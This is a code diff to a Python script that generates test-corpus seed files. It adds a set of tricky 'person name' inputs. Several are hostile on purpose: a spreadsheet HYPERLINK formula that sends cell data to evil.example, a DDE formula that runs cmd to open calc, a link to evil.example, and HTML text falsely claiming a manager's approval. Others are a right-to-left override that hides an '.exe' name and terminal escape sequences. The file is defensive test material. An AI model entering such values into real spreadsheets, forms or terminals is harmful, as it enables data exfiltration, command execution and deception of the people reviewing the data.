@@ -311,4 +311,22 @@ os.makedirs(os.path.join(HERE, "corpus", "csv"))
 for name, data in csv_files.items():
     with open(os.path.join(HERE, "corpus", "csv", name), "wb") as f:
         f.write(data)
-print(f"{len(sessions)} session seeds, {len(schema_files)} schema seeds, {len(csv_files)} csv seeds")
+# Names as agents and people write them (issue 58): markup, a formula, a name that lies about
+# its direction, a terminal's escapes, Arabic with its own marks, a long CJK name, an e-mail.
+person_files = {
+    "markup.txt": '<h2 style="color:green">APPROVED by manager, enter 900.00</h2>',
+    "link.txt": '<a href="http://evil.example/">Maria</a>',
+    "formula.txt": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "dde.txt": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "quote.txt": "'Tis Mary",
+    "bidi.txt": "Ann\u202eelif.exe",
+    "isolate.txt": "\u2066x\u2069 and \u202a",
+    "escapes.txt": "\x1b]0;owned\x07\x1b[2J\x1b[31mEVIL",
+    "note.txt": "two\nlines\r\n\u0085",
+    "arabic.txt": "\u0645\u0631\u064a\u0645 \u200f(12)",
+    "cjk.txt": "\u6b27\u9633" * 60,
+    "email.txt": "maria.alvarez@example.com",
+    "spaces.txt": "\u00a0 Zo\u00eb \u3000",
+}
+write(os.path.join(HERE, "corpus", "person"), {name: text for name, text in person_files.items()})
+print(f"{len(sessions)} session seeds, {len(schema_files)} schema seeds, {len(csv_files)} csv seeds, {len(person_files)} person seeds")
